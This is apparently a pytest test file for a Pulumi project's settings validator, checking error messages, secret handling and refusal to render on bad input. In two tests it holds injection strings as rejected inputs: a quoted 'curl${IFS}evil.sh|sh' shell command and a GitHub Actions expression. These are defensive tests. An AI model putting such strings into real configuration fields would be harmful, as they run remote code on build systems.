"""Stack settings: every invalid input stops the program with a message naming key, value and what is
accepted, exit status 2 from the render, and nothing written."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
import yaml

from components.config import KEYS, KEYS_BY_NAME, SECRET_KEY_NAMES, ConfigError, load_settings
from tools import config_schema
from tools.mockrun import ROOT, load_stack_config, run_stack
from tools.render import render


def stack_values(stack: str) -> dict[str, object]:
    doc = yaml.safe_load((ROOT / f"Pulumi.{stack}.yaml").read_text())
    return {k.split(":", 1)[1]: v for k, v in doc["config"].items()}


def problems_for(**changes: object) -> list[str]:
    raw = stack_values("dev")
    raw.update(changes)
    with pytest.raises(ConfigError) as info:
        load_settings(raw, stack="dev")
    return info.value.problems


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        (
            {"environment": "production"},
            ["hardening:environment: 'production' is invalid; accepted: one of dev, staging, prod"],
        ),
        ({"namespaceMaxPods": -1}, ["hardening:namespaceMaxPods: -1 is invalid; accepted: an integer from 1 to 10000"]),
        (
            {"prometheusRetention": "15 days"},
            ["hardening:prometheusRetention: '15 days' is invalid; accepted: a duration"],
        ),
        (
            {"services": {"Orders": {}}},
            [
                'hardening:services: {"Orders": {}} is invalid; accepted: a map of service name -> per-stack overrides',
                "'Orders' is not a DNS-1123 label",
            ],
        ),
        ({"services": []}, ["hardening:services: [] is invalid; accepted: a map of service name"]),
        ({"services": {"orders-api": "big"}}, ["the overrides of 'orders-api' are not a map"]),
        (
            {"retention": "15d"},
            ["hardening:retention: unknown key; accepted keys: see Pulumi.yaml", "prometheusRetention"],
        ),
        (
            {"prometheusResources": "cpu=1/500m memory=128Mi/256Mi"},
            [
                "hardening:prometheusResources: 'cpu=1/500m memory=128Mi/256Mi' is invalid; accepted: "
                "'cpu=<request>/<limit>"
            ],
        ),
        (
            {"evaluationInterval": "10s", "scrapeInterval": "30s"},
            ["hardening:evaluationInterval: '10s' is shorter than scrapeInterval '30s'"],
        ),
        ({"githubManage": "yes"}, ["hardening:githubManage: 'yes' is invalid; accepted: true or false"]),
        (
            {"costCpuHourly": "five percent"},
            ["hardening:costCpuHourly: 'five percent' is invalid; accepted: a decimal number"],
        ),
    ],
)
def test_invalid_values_name_key_value_and_accepted(changes: dict[str, object], expected: list[str]) -> None:
    problems = problems_for(**changes)
    text = "\n".join(problems)
    for fragment in expected:
        assert fragment in text
    assert len(problems) == 1, problems


def test_every_problem_is_reported_at_once() -> None:
    problems = problems_for(environment="qa", namespaceMaxPods=0, lokiRetention="a month", unknownThing=1)
    assert len(problems) == 4
    assert {p.split(":")[1] for p in problems} == {"environment", "namespaceMaxPods", "lokiRetention", "unknownThing"}


def test_prod_rules_that_span_keys() -> None:
    raw = stack_values("prod")
    raw.update(services={"orders-api": {"replicas": 1}}, vaultTlsSecret="", alertmanagerReplicas=1, vaultReplicas=2)
    with pytest.raises(ConfigError) as info:
        load_settings(raw, stack="prod")
    text = "\n".join(info.value.problems)
    assert "services.orders-api.replicas: 1 is too few for prod" in text
    assert "vaultTlsSecret: empty in prod" in text
    assert "alertmanagerReplicas: 1 in prod" in text
    assert "vaultReplicas: 2 gives Raft no majority" in text


def test_secret_keys_must_be_secret() -> None:
    raw = stack_values("dev") | {"alertSlackWebhookUrl": "https://hooks.slack.invalid/x"}
    with pytest.raises(ConfigError) as info:
        load_settings(raw, stack="dev")
    (problem,) = info.value.problems
    assert "alertSlackWebhookUrl: must be set as a secret" in problem
    assert "hooks.slack" not in problem  # the value never appears in the message
    settings = load_settings(raw, stack="dev", secret_names={"alertSlackWebhookUrl"})
    assert settings.secrets_present == {"alertSlackWebhookUrl"}


def test_config_error_is_a_clean_pulumi_run_error() -> None:
    import pulumi

    assert issubclass(ConfigError, pulumi.RunError)  # `pulumi preview` prints it without a traceback


@pytest.mark.parametrize("stack", ["dev", "prod"])
def test_stack_files_hold_every_non_secret_setting(stack: str) -> None:
    values = stack_values(stack)
    assert set(values) == set(KEYS_BY_NAME), set(values) ^ set(KEYS_BY_NAME)
    assert not set(values) & SECRET_KEY_NAMES
    load_settings(values, stack=stack)


def test_defaults_are_valid_and_documented_in_pulumi_yaml() -> None:
    load_settings({}, stack="defaults")
    assert (ROOT / "Pulumi.yaml").read_text() == config_schema.render((ROOT / "Pulumi.yaml").read_text())
    doc = yaml.safe_load((ROOT / "Pulumi.yaml").read_text())
    for key in KEYS:
        if key.type == "object":  # a map: documented in a comment, set in each stack file
            assert f"# {key.name} (a map" in (ROOT / "Pulumi.yaml").read_text()
            continue
        decl = doc["config"][key.name]
        assert decl["type"] == key.type and decl["default"] == key.default and decl["description"]
    for name in SECRET_KEY_NAMES:
        assert f"#   {name}:" in (ROOT / "Pulumi.yaml").read_text()


def test_offline_secret_values_become_placeholders(tmp_path: Path) -> None:
    (tmp_path / "Pulumi.yaml").write_text((ROOT / "Pulumi.yaml").read_text())
    (tmp_path / "Pulumi.x.yaml").write_text(
        "config:\n  hardening:alertWebhookUrl:\n    secure: v1:abc\n  hardening:grafanaReplicas: 2\n"
    )
    _, config, secret_keys = load_stack_config("x", tmp_path)
    assert config["hardening:alertWebhookUrl"].startswith("OFFLINE-SECRET-PLACEHOLDER-")
    assert secret_keys == ["hardening:alertWebhookUrl"]
    assert config["hardening:grafanaReplicas"] == "2"
    assert config["hardening:environment"] == "dev"  # declared default applied like the CLI does


def test_program_stops_before_registering_anything() -> None:
    with pytest.raises(ConfigError):
        run_stack("dev", overrides={"appReplicas": "-3"})


@pytest.mark.parametrize(
    ("overrides", "fragment"),
    [
        ({"environment": "qa"}, "hardening:environment: 'qa' is invalid"),
        ({"prometheusRetention": "15 days"}, "hardening:prometheusRetention: '15 days' is invalid"),
        ({"services": {"orders-api": {"tag": "latest"}}}, "hardening:services.orders-api.tag: 'latest'"),
        ({"bogusKey": "1"}, "hardening:bogusKey: unknown key"),
    ],
)
def test_render_exits_2_and_writes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], overrides: dict[str, str], fragment: str
) -> None:
    out = tmp_path / "dist" / "dev"
    assert render("dev", out, overrides, stream=io.StringIO()) == 2
    assert fragment in capsys.readouterr().err
    assert not out.exists() and not any(tmp_path.joinpath("dist").glob("*")) if (tmp_path / "dist").exists() else True


def test_render_keeps_previous_output_when_config_is_invalid(tmp_path: Path) -> None:
    out = tmp_path / "dev"
    out.mkdir()
    (out / "marker").write_text("previous render")
    assert render("dev", out, {"appReplicas": "0"}, stream=io.StringIO()) == 2
    assert (out / "marker").read_text() == "previous render"


@pytest.mark.parametrize(
    ("key", "value"),
    [("storageClass", "fast\n"), ("team", "web\n"), ("runbookBaseUrl", "https://x/docs\n"), ("lokiRetention", "7d\n")],
)
def test_a_trailing_newline_is_refused(key: str, value: str) -> None:
    """``$`` matches before a final newline: every pattern is a full match."""
    (problem,) = problems_for(**{key: value})
    assert problem.startswith(f"hardening:{key}: {value!r} is invalid")


@pytest.mark.parametrize("value", ["https://x/{{.Broken", 'https://a";curl${IFS}evil.sh|sh;"', "https://x/docs/"])
def test_runbook_url_accepts_no_template_or_shell_text(value: str) -> None:
    (problem,) = problems_for(runbookBaseUrl=value)
    assert "hardening:runbookBaseUrl" in problem and "template braces" in problem


def test_stack_files_are_read_like_the_pulumi_cli_reads_them(tmp_path: Path) -> None:
    """YAML 1.2 core scalars, as Go's yaml.v3 in the Pulumi CLI: `no` is the string "no", not false."""
    (tmp_path / "Pulumi.yaml").write_text((ROOT / "Pulumi.yaml").read_text())
    (tmp_path / "Pulumi.x.yaml").write_text("config:\n  hardening:team: no\n  hardening:githubManage: true\n")
    _, config, _ = load_stack_config("x", tmp_path)
    assert config["hardening:team"] == "no" and config["hardening:githubManage"] == "true"


def test_a_key_given_twice_in_a_stack_file_is_refused(tmp_path: Path) -> None:
    from tools.mockrun import StackFileError

    (tmp_path / "Pulumi.yaml").write_text((ROOT / "Pulumi.yaml").read_text())
    (tmp_path / "Pulumi.x.yaml").write_text("config:\n  hardening:team: a\n  hardening:team: b\n")
    with pytest.raises(StackFileError, match="key 'hardening:team' is given twice"):
        load_stack_config("x", tmp_path)


def test_keys_in_an_unknown_config_namespace_are_reported() -> None:
    with pytest.raises(ConfigError, match=r"harden:appReplicas: unknown config namespace 'harden'"):
        load_settings(stack_values("dev"), stack="dev", all_keys=["harden:appReplicas", "kubernetes:context"])


def test_retention_size_must_fit_its_volume() -> None:
    (problem,) = problems_for(prometheusRetentionSize="12GB", prometheusStorage="10Gi")
    assert "prometheusRetentionSize: '12GB' does not fit prometheusStorage '10Gi'" in problem


@pytest.mark.parametrize(
    "value", ["https://${{github.event.head_commit.message}}", 'https://a";curl${IFS}evil.sh|sh;"', "https://v/p"]
)
def test_ci_vault_address_admits_no_expression_or_shell_text(value: str) -> None:
    (problem,) = problems_for(ciVaultAddress=value)
    assert problem.startswith("hardening:ciVaultAddress:") and "without path, query, quotes" in problem


def test_the_render_reports_an_unknown_namespace(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "dist"
    assert render("dev", out, {"harden:appReplicas": "5"}, stream=io.StringIO()) == 2
    assert "harden:appReplicas: unknown config namespace" in capsys.readouterr().err and not out.exists()
